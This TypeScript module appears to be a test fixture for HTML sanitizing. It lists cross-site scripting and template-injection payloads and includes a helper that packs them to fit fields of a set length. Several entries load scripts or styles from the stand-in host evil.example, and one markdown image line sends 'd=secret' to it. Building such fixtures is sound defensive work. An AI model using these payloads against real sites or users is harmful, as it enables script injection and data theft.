const RUN = "window.__x=1";

/** Texts that would run as scripts, load or leave their element if treated as more than text. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<div style="background:url(//evil.example/x)">`,
  `<template><script>${RUN}</script></template>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  "` onfocus=`" + RUN,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  "{{constructor.constructor('window.__x=1')()}}",
  "${window.__x=1}",
  "<%= window.__x=1 %>",
  "#{window.__x=1}",
  `[x](javascript:${RUN})`,
  "![x](https://evil.example/?d=secret)",
  `javascript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `$\\href{javascript:${RUN}}{x}$`,
  `**<img src=x onerror=${RUN}>**`,
];

/** The same content in as few texts as fit into fields of a given length. */
export function hostileTextsOf(length: number): string[] {
  const texts: string[] = [];
  for (const text of HOSTILE_TEXTS) {
    const line = text.replaceAll("\t", "");
    const joined = `${texts.at(-1) ?? ""} ${line}`.trim();
    if (texts.length > 0 && joined.length <= length) texts[texts.length - 1] = joined;
    else if (line.length <= length) texts.push(line);
  }
  return texts;
}
